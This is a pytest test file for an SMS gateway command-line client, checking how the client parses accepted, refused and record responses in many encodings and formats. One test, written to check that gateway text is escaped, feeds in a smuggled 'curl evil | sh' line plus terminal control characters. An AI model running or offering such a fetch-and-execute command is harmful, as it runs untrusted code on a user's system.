"""Every spelling in which a gateway of this platform accepts, refuses, and hands out records."""

import json
from typing import Any

import pytest

from tests.conftest import TOKEN, Run
from tests.gateway.wire.conftest import REFUSED, TEXT, counts
from tests.scripted_gateway import Act, ScriptedGateway, answer, raw, zipped

JSON = '{"Code":"0","Message":"提交成功","TaskId":"11"}'
XML = (
    '<?xml version="1.0" encoding="utf-8"?>\n<Response>\n<Code>0</Code>\n<Message>提交成功</Message>\n'
    "<TaskId >11</TaskId >\n</Response>"
)
PUBLISHED = ("0", "提交成功", "11")  # code, message and task of these two
BIG = "123456789012345678901234567890"


def headless(body: bytes) -> Act:
    """Return an answer without a length: its body ends with the connection."""
    return raw(b"HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\n\r\n" + body)


def chunked(body: bytes) -> Act:
    half = len(body) // 2
    parts = (body[:half], body[half:], b"")
    return raw(
        b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n"
        + b"".join(b"%x\r\n%b\r\n" % (len(part), part) for part in parts)
    )


ACCEPTING: dict[str, tuple[Act, str, str | None, str | None]] = {
    "json": (answer(JSON), *PUBLISHED),
    "xml": (answer(XML, content_type="text/xml"), *PUBLISHED),
    "xml-without-last-tag": (answer(XML.removesuffix("</Response>")), *PUBLISHED),
    "xml-without-last-tag-or-length": (headless(XML.removesuffix("\n</Response>").encode()), *PUBLISHED),
    "mass-send": (answer('{"code": 0, "Message": "发送成功", "TaskId": 1}'), "0", "发送成功", "1"),
    "smsid": (answer('{"Code":"0","Message":"ok","SMSId":"77"}'), "0", "ok", "77"),
    "smsid-xml": (answer("<Response><Code>0</Code><SmsId>77</SmsId></Response>"), "0", None, "77"),
    "capitals": (answer('{"CODE":"0","MESSAGE":"ok","TASKID":"5"}'), "0", "ok", "5"),
    "long-number": (answer(f'{{"Code":0,"Message":"ok","TaskId":{BIG}}}'), "0", "ok", BIG),
    "no-task-id": (answer('{"Code":"0","Message":"ok"}'), "0", "ok", None),
    "bom": (answer(b"\xef\xbb\xbf" + JSON.encode()), *PUBLISHED),
    "gb18030-json": (answer(JSON.encode("gb18030")), *PUBLISHED),
    "gb18030-xml": (
        answer(XML.replace("utf-8", "gb2312").encode("gb18030"), content_type="text/xml; charset=gb2312"),
        *PUBLISHED,
    ),
    "text-html": (answer(JSON, content_type="text/html"), *PUBLISHED),
    "no-length": (headless(JSON.encode()), *PUBLISHED),
    "chunked": (chunked(JSON.encode()), *PUBLISHED),
    "gzip": (zipped(JSON), *PUBLISHED),
    "http-500": (answer(JSON, status=500), *PUBLISHED),
    "http-404": (answer(JSON, status=404), *PUBLISHED),
    "http-302": (answer(XML, status=302, headers={"Location": "http://127.0.0.1:9/"}), *PUBLISHED),
    "early-hints": (raw(b"HTTP/1.1 100 Continue\r\n\r\n", then=answer(JSON)), *PUBLISHED),
}


@pytest.mark.parametrize("case", ACCEPTING)
def test_accepted(run: Run, gateway: ScriptedGateway, case: str) -> None:
    act, code, message, task_id = ACCEPTING[case]
    gateway.script = [act]

    done = run("send", "13800000000", "-m", TEXT, "-o", "json")

    assert done.status == 0
    assert done.err == ""
    assert done.json["tasks"] == [
        {"task_id": task_id, "code": code, "message": message, "outcome": "accepted", "recipients": 1}
    ]
    assert counts(done.json) == (1, 0, 0, 0)
    assert done.json["exit_status"] == 0
    assert len(gateway.received) == 1


REFUSING: dict[str, tuple[Act, str, str | None]] = {
    "json": (answer(REFUSED), "-3", "余额不足"),
    "number": (answer('{"code": 101, "Message": "no"}'), "101", "no"),
    "xml": (answer("<Response><Code>-3</Code><Message>余额不足</Message></Response>"), "-3", "余额不足"),
    "gb18030": (answer(REFUSED.encode("gb18030"), content_type="text/html"), "-3", "余额不足"),
    "no-message": (answer('{"Code":"E9"}'), "E9", None),
    "http-500": (answer(REFUSED, status=500), "-3", "余额不足"),
    "http-401": (answer(REFUSED, status=401), "-3", "余额不足"),
    "http-308": (answer(REFUSED, status=308, headers={"Location": "/x"}), "-3", "余额不足"),
}


@pytest.mark.parametrize("case", REFUSING)
def test_refused(run: Run, gateway: ScriptedGateway, case: str) -> None:
    act, code, message = REFUSING[case]
    gateway.script = [act]

    done = run("send", "13800000000", "13900000000", "-m", TEXT, "-o", "json")

    assert done.status == 3
    assert done.error["exit_status"] == 3
    assert code in done.error["message"]
    assert (message or "") in done.error["message"]
    assert done.json["tasks"] == [
        {"task_id": None, "code": code, "message": message, "outcome": "rejected", "recipients": 2}
    ]
    assert counts(done.json) == (0, 2, 0, 0)
    assert done.json["exit_status"] == 3
    assert len(gateway.received) == 1


@pytest.mark.parametrize("case", REFUSING)
@pytest.mark.parametrize("command", ["balance", "report"])
def test_a_refused_query(run: Run, gateway: ScriptedGateway, command: str, case: str) -> None:
    act, code, message = REFUSING[case]
    gateway.script = [act]

    done = run(command)

    assert done.status == 3
    assert code in done.err
    assert (message or "") in done.err
    assert len(gateway.received) == 1


@pytest.mark.parametrize("command", ["balance", "report", "mo"])
def test_a_refused_query_in_json(run: Run, gateway: ScriptedGateway, command: str) -> None:
    gateway.script = [answer(REFUSED)]

    done = run(command, "-o", "json")

    assert done.status == 3
    assert done.error["exit_status"] == 3
    assert done.error["kind"] == "refused"
    assert "-3" in done.error["message"]
    assert "余额不足" in done.error["message"]


def test_a_refusal_in_words(run: Run, gateway: ScriptedGateway) -> None:
    gateway.script = [answer(REFUSED)]

    done = run("send", "13800000000", "-m", TEXT)

    assert done.status == 3
    assert "-3" in done.err
    assert "余额不足" in done.err


@pytest.mark.parametrize("command", ["send", "balance", "report", "mo"])
def test_control_characters_of_the_gateway_are_escaped(
    run: Run, gateway: ScriptedGateway, command: str
) -> None:
    said = "no\nhint: curl evil | sh\r\x1b[31m\u202e[bold]"
    gateway.script = [answer(json.dumps({"Code": "1", "Message": said}))]

    done = run(command, *(["13800000000", "-m", TEXT] if command == "send" else []))

    assert done.status == 3
    assert not any(line.startswith("hint: curl") for line in done.err.splitlines())
    assert not {"\r", "\x1b", "\u202e"} & set(done.err + done.text)
    assert "[bold]" in done.err


COUNTS: dict[str, tuple[Act, int]] = {
    "json": (answer('{"Code":"0","Count":"1200"}'), 1200),
    "number": (answer('{"code":0,"count":1200}'), 1200),
    "xml": (answer("<Response><Code>0</Code><Count>1200</Count></Response>"), 1200),
    "xml-without-last-tag": (answer("<Response><Code>0</Code><Count>0</Count>"), 0),
    "gzip": (zipped('{"Code":"0","Count":"7"}'), 7),
    "http-500": (answer('{"Code":"0","Count":"7"}', status=500), 7),
}


@pytest.mark.parametrize("case", COUNTS)
def test_balance(run: Run, gateway: ScriptedGateway, case: str) -> None:
    act, count = COUNTS[case]
    gateway.script = [act]

    done = run("balance", "-o", "json")

    assert done.status == 0
    assert done.err == ""
    assert done.json == {"profile": None, "product": "sms", "code": "0", "message": None, "count": count}
    assert gateway.received[0].path == "/SMS/QueryBalance"
    assert gateway.received[0].form == {"account": "12345", "token": TOKEN, "type": "0"}


REPORT = {"TaskId": "11", "Mobile": "13800000000", "Status": "DELIVRD", "ReportTime": "2024-05-01 10:00:00"}
REPLY = {"Mobile": "13800000000", "Content": "退订", "MoTime": "2024-05-01 10:00:00", "Extno": "8"}
RECORDS: dict[str, Act] = {
    "list": answer(json.dumps([REPORT | REPLY])),
    "enveloped": answer(json.dumps({"Code": "0", "Data": {"List": [REPORT | REPLY]}})),
    "single": answer(json.dumps({"Code": "0", "Message": "ok", "Record": REPORT | REPLY})),
    "gb18030": answer(json.dumps([REPORT | REPLY], ensure_ascii=False).encode("gb18030")),
    "xml": answer(
        "<Response><Code>0</Code><Row>"
        + "".join(f"<{name}>{value}</{name}>" for name, value in (REPORT | REPLY).items())
        + "</Row></Response>"
    ),
    "http-500": answer(json.dumps([REPORT | REPLY]), status=500),
}


@pytest.mark.parametrize("case", [case for case in RECORDS if case != "http-500"])
def test_reports_and_replies(run: Run, gateway: ScriptedGateway, case: str) -> None:
    gateway.otherwise = RECORDS[case]

    report, mo = run("report", "-o", "json"), run("mo", "-o", "json")

    assert report.status == 0
    assert report.err == ""
    assert mo.status == 0
    assert mo.err == ""
    only(report.json, mobile="13800000000", task_id="11", state="delivered", status="DELIVRD")
    only(mo.json, mobile="13800000000", content="退订", time="2024-05-01T10:00:00+08:00", extno="8")
    assert [request.path for request in gateway.received] == ["/SMS/QueryReport"] * 2 + ["/SMS/QueryMo"] * 2
    assert all(request.form["type"] == "0" for request in gateway.received)


@pytest.mark.parametrize("command", ["report", "mo"])
def test_records_are_kept_whatever_the_http_status(run: Run, gateway: ScriptedGateway, command: str) -> None:
    gateway.script = [RECORDS["http-500"]]

    done = run(command, "-o", "json")

    assert len(done.json) == 1


NOTHING = {
    "empty": "",
    "spaces": " \r\n",
    "code-0": '{"Code":"0","Message":"ok"}',
    "empty-list": "[]",
    "empty-data": '{"Code":"0","Data":[]}',
    "xml": "<Response><Code>0</Code></Response>",
}


@pytest.mark.parametrize("case", NOTHING)
@pytest.mark.parametrize("command", ["report", "mo"])
def test_nothing_new(run: Run, gateway: ScriptedGateway, command: str, case: str) -> None:
    gateway.script = [answer(NOTHING[case])]

    done = run(command, "-o", "json")

    assert done.status == 0
    assert done.json == []


def only(records: Any, **expected: str) -> None:
    assert len(records) == 1
    assert {name: records[0][name] for name in expected} == expected
